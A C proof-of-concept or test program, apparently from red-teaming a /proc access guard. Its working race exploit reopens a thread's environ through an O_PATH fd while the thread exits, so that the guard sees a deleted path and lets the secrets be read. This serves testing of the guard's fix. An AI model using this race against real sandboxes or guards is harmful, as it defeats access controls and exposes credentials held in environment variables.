/* SPDX-License-Identifier: Apache-2.0 */
/* race-deleted SECS MAXDELAY_US: races the /proc guard's decision on the
 * opened object (found by the second red team). An O_PATH fd of
 * /proc/self/task/T/environ is reopened through /proc/self/fd/N while
 * thread T exits a calibrated moment later and a spinner looks "environ"
 * up again, so that the kernel drops the entry between the guard's open and
 * its check: d_path then says "environ (deleted)". The first fix-less guard
 * handed out the live environ within seconds. Prints "WIN ..." for every
 * environ it could read and a summary line "tries N wins W denied D". */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
#include <pthread.h>
#include <errno.h>
#include <stdatomic.h>
#include <sys/syscall.h>
#include <time.h>
#include <sched.h>
static atomic_int T_tid, P_fd = -1, hist[64];
static atomic_long t_start, delay_ns;
static long now(void) { struct timespec n; clock_gettime(CLOCK_MONOTONIC, &n); return n.tv_sec * 1000000000L + n.tv_nsec; }
static void *tfn(void *a) {
	(void)a;
	T_tid = (int)syscall(SYS_gettid);
	long s;
	while (!(s = t_start)) ;
	while (now() - s < delay_ns) ;
	return NULL;
}
static void *spinner(void *a) {
	(void)a;
	for (;;) { int p = P_fd; if (p < 0) { sched_yield(); continue; } { int x = openat(p, "environ", O_PATH | O_CLOEXEC); if (x >= 0) close(x); } }
	return NULL;
}
int main(int argc, char **argv) {
	int secs = argc > 1 ? atoi(argv[1]) : 30, maxd = argc > 2 ? atoi(argv[2]) : 200;
	pthread_t sp; pthread_create(&sp, NULL, spinner, NULL);
	long t0 = now(); int t = 0, wins = 0, ok = 0, den = 0;
	for (; now() - t0 < secs * 1000000000L && wins < 3; t++) {
		T_tid = 0; t_start = 0; delay_ns = (long)(t % (maxd / 2)) * 2000;
		pthread_t th; pthread_create(&th, NULL, tfn, NULL);
		while (!T_tid) ;
		char p[96];
		snprintf(p, sizeof p, "/proc/self/task/%d/environ", (int)T_tid);
		int F = open(p, O_PATH | O_CLOEXEC);
		snprintf(p, sizeof p, "/proc/self/task/%d", (int)T_tid);
		P_fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
		snprintf(p, sizeof p, "/proc/self/fd/%d", F);
		t_start = now();
		int fd = open(p, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			char buf[4096]; ssize_t n = read(fd, buf, sizeof buf - 1); close(fd);
			if (n > 0) { buf[n] = 0; for (ssize_t k = 0; k < n; k++) if (!buf[k]) buf[k] = ' ';
				char *s = strstr(buf, "SECRET");
				printf("WIN try %d (delay %ld us): read %zd bytes of own environ: ...%.60s\n", t, delay_ns / 1000, n, s ? s : buf);
				fflush(stdout); wins++; }
			else ok++;
		} else if (errno == EACCES) { den++; hist[(delay_ns / 2000) % 64]++; }
		pthread_join(th, NULL);
		int pf = P_fd; P_fd = -1; close(pf); close(F);
	}
	printf("tries %d wins %d denied %d empty %d\n", t, wins, den, ok);
	return 0;
}
